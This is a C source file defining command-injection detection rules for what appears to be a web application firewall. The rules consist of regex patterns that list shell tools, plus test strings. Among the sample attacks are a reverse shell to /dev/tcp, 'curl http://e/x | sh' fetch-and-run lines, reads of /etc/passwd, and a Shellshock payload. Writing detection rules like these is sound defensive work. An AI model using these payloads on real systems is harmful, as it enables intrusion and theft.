/* Operating system commands. */
#include <stddef.h>

#include "rules/packs/pack.h"

#define INPUT "args, arg_names, cookies, body"
#define DECODE "url_decode, lowercase"

#define SEPARATOR "(?:;|\\|{1,2}|&{1,2}|`|\\$\\(|<\\(|>\\(|[\\r\\n])\\s*(?:[({!]\\s*)?"
#define FOLDER "(?:sudo\\s+)?(?:[\\w./]*/)?"
/* What may stand behind a command's name. */
#define BOUNDARY "(?:[\\s;|&<>`)'\"$\\\\{]|$)"

const struct pack_rule pack_shell[] = {
    {
        .name = "shell-command",
        .message = "Command injection: a command behind a separator",
        .in = INPUT,
        .transform = DECODE,
        .score = SCORE_CRITICAL,
        .match = { /* names that are no words */
                   SEPARATOR FOLDER
                   "(?:wget|curl|nslookup|whoami|uname|ifconfig|ipconfig|netstat|powershell|pwsh|"
                   "ncat|netcat|chmod|chown|printenv|systeminfo|tasklist|certutil|bitsadmin|mkfifo|"
                   "tftp|telnet|lynx|xxd|busybox|traceroute|tracert|tcpdump|nmap|socat|crontab|"
                   "useradd|adduser|mknod|lsof|nohup|setsid|wmic|mshta|rundll32|regsvr32|"
                   "icacls|net1|schtasks)(?:\\.exe)?" BOUNDARY,
                   /* words, with an argument that is none */
                   "(?:;|\\||&&|&\\s|`|\\$\\()\\s*" FOLDER
                   "(?:cat|ls|id|ps|rm|cp|mv|sh|bash|zsh|dir|del|type|echo|ping\\d?|sleep|touch|tee|dd|nc|"
                   "awk|sed|grep|find|head|tail|more|less|nl|tac|od|perl|python\\d?|ruby|php|node|"
                   "env|export|kill|killall|ssh|scp|ftp|mail|mount|tar|zip|base64|timeout|time|"
                   "set|ver|net|reg|copy|move|start|cmd|which|whereis|host|dig|w|who|ip|date|"
                   "hostname|df|du|gcc|cc|make|reboot|shutdown|halt)(?:\\.exe)?"
                   "(?:\\s+(?:-{1,2}[a-z\\d]|/[a-z\\d?]|\\.{1,2}/|~/|\\$[\\w({]|[a-z]:\\\\|\\*|"
                   "['\"](?:/|-)|\\d{1,3}(?:\\.\\d{1,3}){3}|user\\b|query\\b|[\\w.-]+\\s*"
                   "(?:[|;`]|>\\s*[\\w/.&]))|\\s*(?:<|>)\\s*[/.\\w&]|\\$ifs|\\$\\{ifs|\\{ifs)",
                   /* the whole of what stands between separators */
                   "(?:;|\\||&&|\\$\\()\\s*" FOLDER
                   "(?:cat|ls|id|ps|pwd|dir|env|df|sh|bash|who|ver|hostname|date|reboot)"
                   "\\s*[;|)&#]",
                   /* at the end, where no word stands before the separator */
                   "(?:^|[\\d.\\s\"'/)])\\s*(?:;|\\|{1,2}|&&)\\s*" FOLDER
                   "(?:ls|id|ps|pwd|dir|env|df|who|sh|bash|ver|hostname)\\s*$",
                   /* a path to a program */
                   SEPARATOR "/?(?:usr/(?:local/)?)?s?bin/\\w+",
                   "(?:;|\\||&|`|\\$\\()\\s*(?:sleep|ping|timeout)\\s+(?:/t\\s+)?(?:-\\w\\s*)?\\d{1,5}",
                   "(?:^|\\s)ping\\s+-[cnwti]\\s*\\d{1,5}\\s+[\\w.]" },
        .attacks = { "127.0.0.1;cat /etc/passwd", "x|id|", "127.0.0.1|id", "x; curl http://e/x",
                     "`whoami`", "$(uname -a)", "|| ping -c 10 127.0.0.1", "& ipconfig /all",
                     "x;ls -la", ";/usr/bin/id", "a && sleep 5", "x%0awget%20http://e" },
        .harmless = { "salt & pepper; find out more", "cats|dogs", "name|id", "sleep; eat; repeat",
                      "rock & roll", "AT&T", "less is more | more is less", "the `cat` program",
                      "Tom; who else?", "a | b | c", "time & date", "Q&A; more (soon)" },
    },
    {
        .name = "shell-syntax",
        .message = "Command injection: syntax of a shell",
        .in = INPUT ", path, headers",
        .transform = DECODE,
        .score = SCORE_CRITICAL,
        .match = { "\\(\\s*\\)\\s*\\{\\s*(?::|_|[^}]*)\\s*;?\\s*\\}\\s*;", "\\$\\{?ifs\\b",
                   "/bin/(?:ba|da|k|z|c|tc|a)?sh\\b", "/dev/(?:tcp|udp)/[\\w.]",
                   "\\bbash\\s+-[ic]\\s", "\\bnc(?:at)?\\s+(?:-\\w{1,6}\\s+)*-\\w{0,4}e\\s",
                   "\\bcmd(?:\\.exe)?\\s*/[ckr]\\s", "\\bpowershell(?:\\.exe)?\\s+-\\w",
                   "%(?:comspec|systemroot|windir|programdata)%|\\$\\{?path:",
                   "\\b(?:wget|curl)\\s+(?:-{1,2}[\\w-]+\\s+){0,6}[\"']?(?:https?|ftp)://"
                   "[^\\s]+\\s*(?:\\||;|&&|-o\\b|>)" },
        .attacks = { "() { :;}; echo x", "() { :; }; /bin/bash -c id", "cat${IFS}x", "/bin/sh",
                     "bash -i >& /dev/tcp/1.2.3.4/1", "nc -e x 1", "cmd.exe /c dir",
                     "powershell -enc x", "%COMSPEC%", "curl http://e/x | sh" },
        .harmless = { "function() { return; }", "bash", "/binary/show", "use cmd to", "$path",
                      "see http://example.com", "netcat" },
    },
    {
        .name = "shell-value",
        .message = "Command injection: the value is a command line",
        .in = INPUT,
        .transform = DECODE,
        .score = SCORE_CRITICAL,
        .match = { "^['\"\\s`]*(?:cat|tac|head|tail|less|more|nl|strings|type)\\s+['\"]?[a-z]?:?[/\\\\]"
                   "[\\w.-]+[/\\\\.]",
                   "^['\"\\s`]*(?:wget|curl)\\s+(?:-\\S+\\s+){0,6}['\"]?(?:https?|ftp)://",
                   "^['\"\\s]*`\\s*[\\w./-]{2,60}(?:\\s[^`]*)?`['\"\\s]*$",
                   "^\\s*[-+|&;$\\s]*(?:\\||&&|;)[+\\s]*(?:dir|type|cat|ls)[+\\s]+[a-z]:?[/\\\\]" },
        .attacks = { "cat /etc/hosts", "curl http://e/x.sh", "`ping 127.0.0.1`", "`true`",
                     "$&&dir c:/", "type c:\\boot.ini" },
        .harmless = { "cat food", "head of sales", "more / less", "type A/B", "curl hair",
                      "the `code` here" },
    },
    { .name = NULL },
};
